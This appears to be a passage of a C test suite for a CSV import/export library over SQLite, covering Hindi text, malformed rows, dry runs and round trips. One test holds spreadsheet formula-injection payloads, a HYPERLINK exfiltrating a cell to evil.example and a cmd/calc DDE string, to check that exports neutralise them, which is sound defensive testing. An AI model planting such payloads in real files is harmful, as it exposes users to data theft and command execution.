/* CSV import and export against the default schema in an in-memory database: Excel files
 * with BOM and Hindi, embedded newlines, bad rows with their line numbers, all or nothing,
 * create-or-update, dry runs, and export -> import round trips that change nothing. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include <cmocka.h>
#include <sqlite3.h>

#include "zila/office/csvio.h"

extern const char zila_default_schema_sql[];

#define MAXREJ 16

struct rejects {
	size_t n;
	uint64_t line[MAXREJ];
	uint64_t row[MAXREJ];
	char reason[MAXREJ][512];
	size_t nchanges;
	char changes[MAXREJ][512]; /* "row N new|ID: col old>new ..." from the change callback */
};

static void on_change(void *ctx, const struct zila_csv_change *ch)
{
	struct rejects *r = ctx;
	if (r->nchanges >= MAXREJ) {
		r->nchanges++;
		return;
	}
	char *b = r->changes[r->nchanges++];
	size_t cap = sizeof(r->changes[0]);
	int n = snprintf(b, cap, "row %llu %s %s:", (unsigned long long)ch->row,
			 ch->created ? "new" : ch->id, ch->name ? ch->name : "-");
	for (size_t i = 0; i < ch->ncols && n > 0 && (size_t)n < cap; i++) {
		const char *o = ch->created ? "" : ch->old_values[i] ? ch->old_values[i] : "NULL";
		const char *v = ch->new_values[i] ? ch->new_values[i] : "NULL";
		n += snprintf(b + n, cap - (size_t)n, " %s %s>%s", ch->columns[i], o, v);
	}
}

static void on_reject(void *ctx, const struct zila_csv_reject *rj)
{
	struct rejects *r = ctx;
	if (r->n < MAXREJ) {
		r->line[r->n] = rj->line;
		r->row[r->n] = rj->row;
		snprintf(r->reason[r->n], sizeof(r->reason[r->n]), "%s", rj->reason);
	}
	r->n++;
}

static sqlite3 *new_db(void)
{
	sqlite3 *db = NULL;
	assert_int_equal(sqlite3_open(":memory:", &db), SQLITE_OK);
	assert_int_equal(sqlite3_exec(db, zila_default_schema_sql, NULL, NULL, NULL), SQLITE_OK);
	assert_int_equal(sqlite3_exec(db,
				      "PRAGMA foreign_keys = ON;"
				      "INSERT INTO states (id, name) VALUES ('s1', 'Bihar');"
				      "INSERT INTO districts (id, state_id, name, name_local, code) VALUES "
				      "('d-patna', 's1', 'Patna', 'पटना', 'PAT'),"
				      "('d-gaya', 's1', 'Gaya', 'गया', 'GAY');"
				      "INSERT INTO org_units (id, level, name) VALUES ('u-state', 'state', 'Bihar');"
				      "INSERT INTO org_units (id, level, parent_id, district_id, name) VALUES "
				      "('u-patna', 'district', 'u-state', 'd-patna', 'Patna');",
				      NULL, NULL, NULL),
			 SQLITE_OK);
	return db;
}

static int64_t count(sqlite3 *db, const char *sql)
{
	sqlite3_stmt *st;
	assert_int_equal(sqlite3_prepare_v2(db, sql, -1, &st, NULL), SQLITE_OK);
	assert_int_equal(sqlite3_step(st), SQLITE_ROW);
	int64_t v = sqlite3_column_int64(st, 0);
	sqlite3_finalize(st);
	return v;
}

static char *text(sqlite3 *db, const char *sql)
{
	sqlite3_stmt *st;
	assert_int_equal(sqlite3_prepare_v2(db, sql, -1, &st, NULL), SQLITE_OK);
	assert_int_equal(sqlite3_step(st), SQLITE_ROW);
	const unsigned char *v = sqlite3_column_text(st, 0);
	char *s = strdup(v ? (const char *)v : "(null)");
	sqlite3_finalize(st);
	return s;
}

/* Imports csv in chunks of `chunk` bytes (to cross every boundary the parser has). */
static int import(sqlite3 *db, struct zila_csv_import_opts *o, const char *csv, size_t len,
		  size_t chunk, struct zila_csv_stats *st, struct rejects *rj)
{
	struct zila_csv_import *im = NULL;
	struct zila_error err;
	memset(rj, 0, sizeof(*rj));
	o->on_reject = on_reject;
	o->ctx = rj;
	int r = zila_csv_import_new(&im, db, o, &err);
	if (r != 0)
		return r;
	for (size_t off = 0; off < len && r == 0; off += chunk) {
		size_t n = len - off < chunk ? len - off : chunk;
		r = zila_csv_import_feed(im, csv + off, n, &err);
	}
	if (r == 0)
		r = zila_csv_import_finish(im, st, &err);
	else
		zila_csv_import_stats(im, st);
	zila_csv_import_free(im);
	return r;
}

static int import_s(sqlite3 *db, const char *table, const char *csv, struct zila_csv_stats *st,
		    struct rejects *rj)
{
	struct zila_csv_import_opts o = { .table = table };
	return import(db, &o, csv, strlen(csv), 7, st, rj);
}

/* What was written to m (a tmpfile(): open_memstream is POSIX only), NUL-terminated, in a
 * buffer the caller frees; closes m. */
static char *drain(FILE *m, size_t *len)
{
	assert_int_equal(fflush(m), 0);
	long n = ftell(m);
	assert_true(n >= 0);
	char *buf = malloc((size_t)n + 1);
	assert_non_null(buf);
	rewind(m);
	assert_int_equal(fread(buf, 1, (size_t)n, m), (size_t)n);
	buf[n] = '\0';
	fclose(m);
	*len = (size_t)n;
	return buf;
}

static char *export(sqlite3 *db, const char *table, enum zila_export_format f, size_t *len)
{
	FILE *m = tmpfile();
	assert_non_null(m);
	struct zila_csv_export_opts o = { .table = table, .format = f };
	struct zila_error err;
	assert_int_equal(zila_csv_export(db, &o, m, NULL, &err), 0);
	return drain(m, len);
}

/* --- tests ------------------------------------------------------------------------ */

static void test_excel_bom_hindi(void **state)
{
	(void)state;
	sqlite3 *db = new_db();
	struct zila_csv_stats st;
	struct rejects rj;
	const char *csv = "\xef\xbb\xbf"
			  "Name,Name Local,Phone,District,Gender,Birth Year,Joined On\r\n"
			  "Ramesh Kumar,रमेश कुमार,+91 98765 43210,पटना,male,1980,05/01/2024\r\n"
			  "Sita Devi,सीता देवी,098765-43211,gaya,female,1975.0,2024-01-06\r\n"
			  "\"Anil, Yadav\",अनिल यादव,9876543212,PAT,,,\r\n";
	assert_int_equal(import_s(db, "people", csv, &st, &rj), 0);
	assert_int_equal(st.nrows, 3);
	assert_int_equal(st.ncreated, 3);
	assert_int_equal(st.nrejected, 0);
	assert_int_equal(count(db, "SELECT count(*) FROM people"), 3);
	char *s = text(db, "SELECT name_local FROM people WHERE phone = '9876543210'");
	assert_string_equal(s, "रमेश कुमार");
	free(s);
	s = text(db, "SELECT joined_on || ' ' || district_id || ' ' || typeof(birth_year) "
		     "FROM people WHERE name = 'Ramesh Kumar'");
	assert_string_equal(s, "2024-01-05 d-patna integer");
	free(s);
	s = text(db, "SELECT district_id || ' ' || birth_year FROM people WHERE phone = '9876543211'");
	assert_string_equal(s, "d-gaya 1975");
	free(s);
	s = text(db, "SELECT name || '|' || district_id || '|' || coalesce(gender, 'NULL') FROM "
		     "people WHERE phone = '9876543212'");
	assert_string_equal(s, "Anil, Yadav|d-patna|NULL");
	free(s);
	/* generated ids: 32 lowercase hex digits */
	assert_int_equal(count(db, "SELECT count(*) FROM people WHERE length(id) = 32 AND "
				   "id NOT GLOB '*[^0-9a-f]*'"),
			 3);
	sqlite3_close(db);
}

static void test_embedded_newlines(void **state)
{
	(void)state;
	sqlite3 *db = new_db();
	struct zila_csv_stats st;
	struct rejects rj;
	/* line 2-4: one record over three lines; line 5: a bad phone; LF only */
	const char *csv = "name,phone,district_id,address\n"
			  "Ravi,9000000001,Patna,\"House 5,\nWard 7,\nRampur\"\n"
			  "\"Gita \"\"Didi\"\"\",9000000002,Patna,\"line\r\nbreak\"\n"
			  "Bad,12345,Patna,x\n";
	assert_int_equal(import_s(db, "people", csv, &st, &rj), ZILA_EFORMAT);
	assert_int_equal(rj.n, 1);
	assert_int_equal(rj.line[0], 7);
	assert_int_equal(rj.row[0], 4); /* #16: the spreadsheet's row: header, Ravi, Gita, Bad */
	assert_non_null(strstr(rj.reason[0], "malformed phone '12345'"));
	assert_int_equal(count(db, "SELECT count(*) FROM people"), 0);

	struct zila_csv_import_opts o = { .table = "people", .skip_bad = true };
	assert_int_equal(import(db, &o, csv, strlen(csv), 1, &st, &rj), 0);
	assert_int_equal(st.ncreated, 2);
	assert_int_equal(st.nrejected, 1);
	assert_int_equal(rj.line[0], 7);
	char *s = text(db, "SELECT address FROM people WHERE phone = '9000000001'");
	assert_string_equal(s, "House 5,\nWard 7,\nRampur");
	free(s);
	s = text(db, "SELECT name || '|' || address FROM people WHERE phone = '9000000002'");
	assert_string_equal(s, "Gita \"Didi\"|line\r\nbreak");
	free(s);
	/* a blank row is a row of the spreadsheet too */
	assert_int_equal(import_s(db, "people", "name,phone,district_id\r\n\r\nBad,123,Patna\r\n",
				  &st, &rj),
			 ZILA_EFORMAT);
	assert_int_equal(rj.row[0], 3);
	sqlite3_close(db);
}

/* 10,000 data rows; the row on physical line 5,001 is bad: reported with its line, and
 * nothing is imported. */
static void test_bad_row_5001_of_10000(void **state)
{
	(void)state;
	sqlite3 *db = new_db();
	size_t cap = 10002 * 64, len = 0;
	char *csv = malloc(cap);
	assert_non_null(csv);
	len += (size_t)snprintf(csv + len, cap - len, "name,name_local,phone,district_id\r\n");
	for (int i = 0; i < 10000; i++) {
		int line = i + 2;
		if (line == 5001)
			len += (size_t)snprintf(csv + len, cap - len, "Member %d,सदस्य,98765-4321,Patna\r\n", i);
		else
			len += (size_t)snprintf(csv + len, cap - len, "Member %d,सदस्य %d,%lld,Patna\r\n", i,
						i, 7000000000LL + i * 7);
	}
	struct zila_csv_stats st;
	struct rejects rj;
	struct zila_csv_import_opts o = { .table = "people" };
	assert_int_equal(import(db, &o, csv, len, 65536, &st, &rj), ZILA_EFORMAT);
	assert_int_equal(st.nrows, 10000);
	assert_int_equal(st.nrejected, 1);
	assert_int_equal(rj.n, 1);
	assert_int_equal(rj.line[0], 5001);
	assert_non_null(strstr(rj.reason[0], "malformed phone"));
	assert_int_equal(count(db, "SELECT count(*) FROM people"), 0);

	/* --skip-bad imports the other 9,999 */
	struct zila_csv_import_opts o2 = { .table = "people", .skip_bad = true };
	assert_int_equal(import(db, &o2, csv, len, 65536, &st, &rj), 0);
	assert_int_equal(st.ncreated, 9999);
	assert_int_equal(rj.line[0], 5001);
	assert_int_equal(count(db, "SELECT count(*) FROM people"), 9999);

	/* and importing the same file again changes nothing */
	assert_int_equal(import(db, &o2, csv, len, 65536, &st, &rj), 0);
	assert_int_equal(st.ncreated, 0);
	assert_int_equal(st.nupdated, 0);
	assert_int_equal(st.nunchanged, 9999);
	assert_int_equal(st.nrejected, 1);
	free(csv);
	sqlite3_close(db);
}

static void test_reimport_and_update(void **state)
{
	(void)state;
	sqlite3 *db = new_db();
	struct zila_csv_stats st;
	struct rejects rj;
	const char *csv = "name,phone,district_id,birth_year\n"
			  "A,9000000001,Patna,1990\n"
			  "B,9000000002,Patna,1991\n"
			  "C,9000000003,Gaya,\n";
	assert_int_equal(import_s(db, "people", csv, &st, &rj), 0);
	assert_int_equal(st.ncreated, 3);
	assert_int_equal(import_s(db, "people", csv, &st, &rj), 0);
	assert_int_equal(st.nunchanged, 3);
	assert_int_equal(st.ncreated + st.nupdated, 0);

	/* an update writes only the changed columns: a trigger on phone must not fire */
	assert_int_equal(sqlite3_exec(db,
				      "CREATE TEMP TABLE fired (col TEXT);"
				      "CREATE TEMP TRIGGER ph AFTER UPDATE OF phone ON people BEGIN "
				      "INSERT INTO fired VALUES ('phone'); END;"
				      "CREATE TEMP TRIGGER by AFTER UPDATE OF birth_year ON people BEGIN "
				      "INSERT INTO fired VALUES ('birth_year'); END;",
				      NULL, NULL, NULL),
			 SQLITE_OK);
	const char *csv2 = "name,phone,district_id,birth_year\n"
			   "A,9000000001,Patna,1990\n"
			   "B,9000000002,Patna,1992\n"
			   "C,9000000003,Gaya,\n"
			   "D,9000000004,Gaya,\n";
	assert_int_equal(import_s(db, "people", csv2, &st, &rj), 0);
	assert_int_equal(st.ncreated, 1);
	assert_int_equal(st.nupdated, 1);
	assert_int_equal(st.nunchanged, 2);
	assert_int_equal(count(db, "SELECT count(*) FROM fired WHERE col = 'birth_year'"), 1);
	assert_int_equal(count(db, "SELECT count(*) FROM fired WHERE col = 'phone'"), 0);

	/* export -> import changes nothing (ids match), and the export is Excel-ready */
	size_t len;
	char *out = export(db, "people", ZILA_EXPORT_CSV, &len);
	assert_memory_equal(out, "\xef\xbb\xbfid,district_id,name,", 22);
	assert_non_null(strstr(out, "\r\n"));
	struct zila_csv_import_opts o = { .table = "people" };
	assert_int_equal(import(db, &o, out, len, 4096, &st, &rj), 0);
	assert_int_equal(st.nunchanged, 4);
	assert_int_equal(st.ncreated + st.nupdated + st.nrejected, 0);
	assert_int_equal(count(db, "SELECT count(*) FROM fired"), 1);

	/* ... also into an empty replica, where it recreates the same rows */
	sqlite3 *db2 = new_db();
	assert_int_equal(import(db2, &o, out, len, 4096, &st, &rj), 0);
	assert_int_equal(st.ncreated, 4);
	size_t len2;
	char *out2 = export(db2, "people", ZILA_EXPORT_CSV, &len2);
	assert_int_equal(len, len2);
	assert_memory_equal(out, out2, len);
	free(out);
	free(out2);
	sqlite3_close(db2);
	sqlite3_close(db);
}

static void test_dry_run_counts(void **state)
{
	(void)state;
	sqlite3 *db = new_db();
	struct zila_csv_stats st;
	struct rejects rj;
	assert_int_equal(import_s(db, "people", "name,phone,district_id\nA,9000000001,Patna\n"
						"B,9000000002,Patna\n",
				  &st, &rj),
			 0);
	const char *csv = "name,phone,district_id,address\n"
			  "A,9000000001,Patna,\n"        /* unchanged */
			  "B,9000000002,Patna,Ward 2\n"  /* updated */
			  "C,9000000003,Patna,\n"        /* created */
			  "D,9000000004,Nowhere,\n"      /* rejected */
			  "C,9000000003,Patna,Ward 3\n"; /* matches the row created above */
	struct zila_csv_import_opts o = { .table = "people", .dry_run = true,
					  .on_change = on_change };
	assert_int_equal(import(db, &o, csv, strlen(csv), 3, &st, &rj), 0);
	/* #16: row by row, what would be created and what would change (old > new) */
	char *bid = text(db, "SELECT id FROM people WHERE name = 'B'");
	char want[256];
	assert_int_equal(rj.nchanges, 3);
	snprintf(want, sizeof(want), "row 3 %s B: address NULL>Ward 2", bid);
	assert_string_equal(rj.changes[0], want);
	assert_string_equal(rj.changes[1], "row 4 new C: district_id >d-patna name >C phone "
					   ">9000000003");
	assert_memory_equal(rj.changes[2], "row 6 ", 6);
	assert_non_null(strstr(rj.changes[2], " C: address NULL>Ward 3"));
	free(bid);
	assert_int_equal(st.nrows, 5);
	assert_int_equal(st.nunchanged, 1);
	assert_int_equal(st.nupdated, 2);
	assert_int_equal(st.ncreated, 1);
	assert_int_equal(st.nrejected, 1);
	assert_int_equal(rj.line[0], 5);
	assert_string_equal(rj.reason[0], "unknown district 'Nowhere'");
	/* nothing written */
	assert_int_equal(count(db, "SELECT count(*) FROM people"), 2);
	assert_int_equal(count(db, "SELECT count(*) FROM people WHERE name = 'B'"), 1);
	sqlite3_close(db);
}

static void test_reasons(void **state)
{
	(void)state;
	sqlite3 *db = new_db();
	struct zila_csv_stats st;
	struct rejects rj;
	assert_int_equal(import_s(db, "people", "id,name,phone,district_id\n"
						"p1,A,9000000001,Patna\n",
				  &st, &rj),
			 0);
	const char *csv = "id,name,phone,district_id,org_unit_id,joined_on\n"
			  ",,9000000002,Patna,,\n"                  /* 2: no name */
			  ",X,9000000003,Patna,u-nowhere,\n"         /* 3: FK */
			  ",X,9000000004,Patna,,31-02-2024\n"        /* 4: date */
			  "p1,A,9000000001,Gaya,,\n"                 /* 5: move */
			  ",X,9000000005,Patna,u-patna,2024-02-29,extra\n" /* 6: too many fields */
			  ",Y,9.87654E+09,Patna,,\n"                 /* 7: Excel number */
			  ",Z,9000000006,Patna,u-patna,29.02.2024\n"; /* 8: fine */
	struct zila_csv_import_opts o = { .table = "people", .skip_bad = true };
	assert_int_equal(import(db, &o, csv, strlen(csv), 5, &st, &rj), 0);
	assert_int_equal(st.nrejected, 6);
	assert_int_equal(st.ncreated, 1);
	assert_int_equal(rj.line[0], 2);
	assert_string_equal(rj.reason[0], "missing required column 'name'");
	assert_int_equal(rj.line[1], 3);
	/* org_units has codes: a value that is no id is looked up as one (a booth's number) */
	assert_string_equal(rj.reason[1], "org_unit_id 'u-nowhere' is not in table org_units (neither an id nor a code)");
	assert_int_equal(rj.line[2], 4);
	assert_non_null(strstr(rj.reason[2], "malformed date '31-02-2024'"));
	assert_int_equal(rj.line[3], 5);
	assert_non_null(strstr(rj.reason[3], "cannot move between districts"));
	assert_int_equal(rj.line[4], 6);
	assert_string_equal(rj.reason[4], "row has 7 fields, the header has 6");
	assert_int_equal(rj.line[5], 7);
	assert_non_null(strstr(rj.reason[5], "format the column as text"));
	char *s = text(db, "SELECT joined_on FROM people WHERE name = 'Z'");
	assert_string_equal(s, "2024-02-29");
	free(s);

	/* header problems are fatal, before any row */
	struct zila_csv_import_opts o2 = { .table = "people" };
	const char *bad = "S.No.,name,Mobile,district_id\n1,Q,9000000009,Patna\n";
	assert_int_equal(import(db, &o2, bad, strlen(bad), 100, &st, &rj), ZILA_ESCHEMA);
	struct zila_csv_map map[] = { { "s.no.", "" }, { "MOBILE", "phone" } };
	o2.map = map;
	o2.nmap = 2;
	assert_int_equal(import(db, &o2, bad, strlen(bad), 100, &st, &rj), 0);
	assert_int_equal(st.ncreated, 1);
	assert_int_equal(count(db, "SELECT count(*) FROM people WHERE phone = '9000000009'"), 1);

	/* UNIQUE collision: an explicit new id with a phone already used in the district */
	const char *dup = "id,name,phone,district_id\np9,Dup,9000000001,Patna\n";
	assert_int_equal(import(db, &o, dup, strlen(dup), 100, &st, &rj), 0);
	assert_int_equal(st.nrejected, 1);
	assert_non_null(strstr(rj.reason[0], "UNIQUE"));

	/* unknown table, internal table */
	struct zila_csv_import *im = NULL;
	struct zila_csv_import_opts o3 = { .table = "nope" };
	assert_int_equal(zila_csv_import_new(&im, db, &o3, NULL), ZILA_ENOTFOUND);
	assert_null(im);
	sqlite3_close(db);
}

static void test_self_reference_parents_first(void **state)
{
	(void)state;
	sqlite3 *db = new_db();
	/* child ids sort before their parents' ids */
	assert_int_equal(sqlite3_exec(db,
				      "INSERT INTO org_units (id, level, parent_id, district_id, name) "
				      "VALUES ('zz-block', 'block', 'u-patna', 'd-patna', 'Block'),"
				      "('aa-booth', 'booth', 'zz-block', 'd-patna', 'Booth 1');",
				      NULL, NULL, NULL),
			 SQLITE_OK);
	size_t len;
	char *csv = export(db, "org_units", ZILA_EXPORT_CSV, &len);
	char *p1 = strstr(csv, "zz-block,block");
	char *p2 = strstr(csv, "aa-booth,booth");
	assert_non_null(p1);
	assert_non_null(p2);
	assert_true(p1 < p2);

	sqlite3 *db2;
	assert_int_equal(sqlite3_open(":memory:", &db2), SQLITE_OK);
	assert_int_equal(sqlite3_exec(db2, zila_default_schema_sql, NULL, NULL, NULL), SQLITE_OK);
	assert_int_equal(sqlite3_exec(db2,
				      "INSERT INTO states (id, name) VALUES ('s1', 'Bihar');"
				      "INSERT INTO districts (id, state_id, name) VALUES ('d-patna', 's1', "
				      "'Patna'), ('d-gaya', 's1', 'Gaya');",
				      NULL, NULL, NULL),
			 SQLITE_OK);
	struct zila_csv_stats st;
	struct rejects rj;
	struct zila_csv_import_opts o = { .table = "org_units" };
	assert_int_equal(import(db2, &o, csv, len, 1000, &st, &rj), 0);
	assert_int_equal(st.ncreated, 4);
	free(csv);
	sqlite3_close(db2);
	sqlite3_close(db);
}

static void test_export_json_and_district(void **state)
{
	(void)state;
	sqlite3 *db = new_db();
	assert_int_equal(sqlite3_exec(db,
				      "INSERT INTO people (id, district_id, name, name_local, birth_year) "
				      "VALUES ('p1', 'd-patna', 'Q \"x\"', 'क्यू', 1970),"
				      "('p2', 'd-gaya', '', NULL, NULL);",
				      NULL, NULL, NULL),
			 SQLITE_OK);
	size_t len;
	char *j = export(db, "people", ZILA_EXPORT_JSON, &len);
	assert_non_null(strstr(j, "\"name\":\"Q \\\"x\\\"\",\"name_local\":\"क्यू\",\"phone\":null"));
	assert_non_null(strstr(j, "\"birth_year\":1970"));
	free(j);

	/* '' and NULL survive a CSV round trip */
	char *c = export(db, "people", ZILA_EXPORT_CSV, &len);
	assert_non_null(strstr(c, "p2,d-gaya,\"\",,"));
	struct zila_csv_stats st;
	struct rejects rj;
	struct zila_csv_import_opts o = { .table = "people" };
	assert_int_equal(import(db, &o, c, len, 9, &st, &rj), 0);
	assert_int_equal(st.nunchanged, 2);
	free(c);

	char *buf = NULL;
	FILE *m = tmpfile();
	struct zila_csv_export_opts eo = { .table = "people", .district = "Gaya", .no_bom = true };
	uint64_t n = 0;
	assert_int_equal(zila_csv_export(db, &eo, m, &n, NULL), 0);
	buf = drain(m, &len);
	assert_int_equal(n, 1);
	assert_memory_equal(buf, "id,", 3);
	assert_null(strstr(buf, "p1"));
	free(buf);

	m = tmpfile();
	struct zila_csv_export_opts eo2 = { .table = "districts", .district = "Gaya" };
	assert_int_equal(zila_csv_export(db, &eo2, m, &n, NULL), ZILA_EINVAL);
	buf = drain(m, &len);
	free(buf);
	sqlite3_close(db);
}

/* Calls fn on every cell of a CSV text (quotes removed, "" as "), in order. */
static void each_cell(const char *p, size_t n, void (*fn)(const char *cell, size_t len, void *ctx),
		      void *ctx)
{
	char *cell = malloc(n + 1);
	assert_non_null(cell);
	size_t i = 0;
	if (n >= 3 && memcmp(p, "\xef\xbb\xbf", 3) == 0)
		i = 3;
	while (i < n) {
		size_t k = 0;
		if (p[i] == '"') {
			for (i++; i < n; i++) {
				if (p[i] == '"' && i + 1 < n && p[i + 1] == '"')
					cell[k++] = p[i++];
				else if (p[i] == '"')
					break;
				else
					cell[k++] = p[i];
			}
			i++;
		} else {
			for (; i < n && p[i] != ',' && p[i] != '\r'; i++)
				cell[k++] = p[i];
		}
		cell[k] = '\0';
		fn(cell, k, ctx);
		if (i < n && p[i] == ',')
			i++;
		else if (i + 1 < n && p[i] == '\r' && p[i + 1] == '\n')
			i += 2;
		else
			assert_true(i >= n);
	}
	free(cell);
}

/* A cell a spreadsheet would run: = + - @ TAB or CR first, except the plain numbers of the
 * test's rows. */
static void no_formula(const char *cell, size_t len, void *ctx)
{
	size_t *ncells = ctx;
	(*ncells)++;
	if (strcmp(cell, "-5") == 0 || strcmp(cell, "-1.5") == 0 || strcmp(cell, "-12") == 0)
		return;
	if (len > 0 && strchr("=+-@\t\r", cell[0]) != NULL)
		fail_msg("the export has a cell a spreadsheet would run: '%s'", cell);
}

/* #15 item 11: export neutralises what a spreadsheet would take for a formula (a ' before
 * it, as OWASP recommends), and the re-import of the export takes the ' off again. */
static void test_export_formula_cells(void **state)
{
	(void)state;
	static const char *const texts[] = {
		"=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
		"+91 98765 43210",
		"-2+3+cmd|' /C calc'!A0",
		"@SUM(A1:A9)",
		"\tTab first",
		"\rCR first",
		"'=quoted by the writer",
		"''+two quotes",
		"-",
		"-12",
		"'",
		"plain",
		"=1,\"2\"\n=3",
	};
	const char *schema = "CREATE TABLE notes (id TEXT PRIMARY KEY NOT NULL, n INTEGER, "
			     "r REAL, t TEXT);";
	sqlite3 *db = new_db(), *db2 = new_db();
	assert_int_equal(sqlite3_exec(db, schema, NULL, NULL, NULL), SQLITE_OK);
	assert_int_equal(sqlite3_exec(db2, schema, NULL, NULL, NULL), SQLITE_OK);
	size_t ntexts = sizeof(texts) / sizeof(texts[0]);
	sqlite3_stmt *ins;
	assert_int_equal(sqlite3_prepare_v2(db, "INSERT INTO notes VALUES (?1, -5, -1.5, ?2)", -1,
					    &ins, NULL),
			 SQLITE_OK);
	for (size_t i = 0; i < ntexts; i++) {
		char id[16];
		snprintf(id, sizeof(id), "n%02zu", i);
		sqlite3_bind_text(ins, 1, id, -1, SQLITE_TRANSIENT);
		sqlite3_bind_text(ins, 2, texts[i], -1, SQLITE_STATIC);
		assert_int_equal(sqlite3_step(ins), SQLITE_DONE);
		sqlite3_reset(ins);
	}
	sqlite3_finalize(ins);

	size_t len, ncells = 0;
	char *out = export(db, "notes", ZILA_EXPORT_CSV, &len);
	each_cell(out, len, no_formula, &ncells);
	assert_int_equal(ncells, 4 * (ntexts + 1));
	assert_non_null(strstr(out, "'=HYPERLINK("));
	assert_non_null(strstr(out, "''=quoted by the writer"));

	/* the re-import changes nothing, and into an empty replica gives the same values */
	struct zila_csv_stats st;
	struct rejects rj;
	struct zila_csv_import_opts o = { .table = "notes" };
	assert_int_equal(import(db, &o, out, len, 5, &st, &rj), 0);
	assert_int_equal(st.nunchanged, ntexts);
	assert_int_equal(st.ncreated + st.nupdated + st.nrejected, 0);
	assert_int_equal(import(db2, &o, out, len, 4096, &st, &rj), 0);
	assert_int_equal(st.ncreated, ntexts);
	for (size_t i = 0; i < ntexts; i++) {
		char sql[96];
		snprintf(sql, sizeof(sql), "SELECT t || '|' || n || '|' || r FROM notes WHERE id = 'n%02zu'", i);
		char *got = text(db2, sql), want[128];
		snprintf(want, sizeof(want), "%s|-5|-1.5", texts[i]);
		assert_string_equal(got, want);
		free(got);
	}
	size_t len2;
	char *out2 = export(db2, "notes", ZILA_EXPORT_CSV, &len2);
	assert_int_equal(len, len2);
	assert_memory_equal(out, out2, len);

	/* the rows import writes back (a rejects file) are neutralised the same way */
	char *row = NULL;
	size_t row_len = 0;
	FILE *m = tmpfile();
	assert_non_null(m);
	const char *f[] = { "=1+1", "@x", "-3" };
	size_t fl[] = { 4, 2, 2 };
	assert_int_equal(zila_csv_write_row(m, f, fl, 3), 0);
	row = drain(m, &row_len);
	assert_string_equal(row, "'=1+1,'@x,-3\r\n");
	free(row);
	free(out);
	free(out2);
	sqlite3_close(db2);
	sqlite3_close(db);
}

/* #16: matching on (district, phone) never turns one person into another: a family's
 * shared phone, or a phone given twice in one file, is rejected for review; the same name
 * written another way, or a row matched by its id, still updates. */
static void test_shared_phone_is_not_a_merge(void **state)
{
	(void)state;
	sqlite3 *db = new_db();
	struct zila_csv_stats st;
	struct rejects rj;
	assert_int_equal(import_s(db, "people", "name,phone,district_id,address\n"
						"Rakesh Yadav,9000000001,Patna,Ward 1\n",
				  &st, &rj),
			 0);
	char *id = text(db, "SELECT id FROM people");
	const char *csv = "name,phone,district_id,address\n"
			  "Sunita Yadav,9000000001,Patna,Ward 9\n" /* his wife, the same phone */
			  "rakesh  yadav,9000000001,Patna,Ward 2\n" /* him, written another way */
			  "Meena,9000000002,Patna,\n"
			  "Meera,9000000002,Patna,\n"; /* the phone again, in one file */
	struct zila_csv_import_opts o = { .table = "people", .skip_bad = true };
	assert_int_equal(import(db, &o, csv, strlen(csv), 11, &st, &rj), 0);
	assert_int_equal(st.nrejected, 2);
	assert_int_equal(st.nupdated, 1);
	assert_int_equal(st.ncreated, 1);
	assert_int_equal(rj.line[0], 2);
	char want[512];
	snprintf(want, sizeof(want),
		 "phone 9000000001 is already Rakesh Yadav's (id %s), and this row names 'Sunita "
		 "Yadav': two people are not merged (for a shared phone, leave this person's empty "
		 "or give their own; to rename Rakesh Yadav, give the id)",
		 id);
	assert_string_equal(rj.reason[0], want);
	assert_int_equal(rj.line[1], 5);
	assert_non_null(strstr(rj.reason[1], "already Meena's"));
	/* nobody was overwritten: the name stays, the address is his second row's */
	char *got = text(db, "SELECT name || '|' || address FROM people WHERE phone = '9000000001'");
	assert_string_equal(got, "rakesh  yadav|Ward 2");
	free(got);
	assert_int_equal(count(db, "SELECT count(*) FROM people WHERE name = 'Meena'"), 1);
	assert_int_equal(count(db, "SELECT count(*) FROM people WHERE name = 'Meera'"), 0);

	/* a rename by id is what the user asked for */
	char csv2[256];
	snprintf(csv2, sizeof(csv2), "id,name\n%s,Rakesh Kumar Yadav\n", id);
	assert_int_equal(import_s(db, "people", csv2, &st, &rj), 0);
	assert_int_equal(st.nupdated, 1);
	free(id);
	sqlite3_close(db);
}

/* #16: an export saved back by Excel as "CSV (Comma delimited)" has ? for every Hindi letter;
 * its re-import is refused, with what to do. */
static void test_lost_letters_refused(void **state)
{
	(void)state;
	sqlite3 *db = new_db();
	struct zila_csv_stats st;
	struct rejects rj;
	assert_int_equal(import_s(db, "people", "name,name_local,phone,district_id\n"
						"Meenakshi,मीनाक्षी देवी,9000000001,Patna\n"
						"Q Ahmed,Who? Me?,9000000002,Patna\n",
				  &st, &rj),
			 0);
	char *id = text(db, "SELECT id FROM people WHERE name = 'Meenakshi'");
	char csv[512];
	snprintf(csv, sizeof(csv),
		 "id,name,name_local,phone,district_id\n"
		 "%s,Meenakshi,??????? ???,9000000001,d-patna\n", id);
	assert_int_equal(import_s(db, "people", csv, &st, &rj), ZILA_EFORMAT);
	assert_int_equal(st.nrejected, 1);
	assert_string_equal(rj.reason[0],
			    "column name_local lost its letters: '??????? ??" "?' where the replica "
			    "has 'मीनाक्षी देवी' (Excel's 'CSV (Comma delimited)' turns Hindi into ?; "
			    "save the file as 'CSV UTF-8' and import that)");
	char *got = text(db, "SELECT name_local FROM people WHERE name = 'Meenakshi'");
	assert_string_equal(got, "मीनाक्षी देवी");
	free(got);
	/* a new row of ? alone is refused too; a ? in ordinary text is not */
	assert_int_equal(import_s(db, "people", "name,name_local,phone,district_id\n"
						"New One,????? ????,9000000003,Patna\n"
						"Q Ahmed,Who? Me? Yes,9000000002,Patna\n",
				  &st, &rj),
			 ZILA_EFORMAT);
	assert_int_equal(st.nrejected, 1);
	assert_int_equal(rj.line[0], 2);
	assert_non_null(strstr(rj.reason[0], "the file lost its letters"));
	/* a name in Hindi matched by phone: the lost letters are the reason, not another person */
	assert_int_equal(import_s(db, "people", "name,phone,district_id\n"
						"राकेश,9000000004,Patna\n",
				  &st, &rj),
			 0);
	assert_int_equal(import_s(db, "people", "name,phone,district_id\n"
						"?????,9000000004,Patna\n",
				  &st, &rj),
			 ZILA_EFORMAT);
	assert_memory_equal(rj.reason[0], "column name lost its letters: '????" "?' where", 43);
	free(id);
	sqlite3_close(db);
}

/* #16: a landline typed with its STD code stays a landline (0612-2234567), never a mobile
 * number made of its digits; mobiles are read as before. */
static void test_landline_stays_a_landline(void **state)
{
	(void)state;
	sqlite3 *db = new_db();
	struct zila_csv_stats st;
	struct rejects rj;
	const char *csv = "name,phone,district_id\n"
			  "L1,0612-2234567,Patna\n"
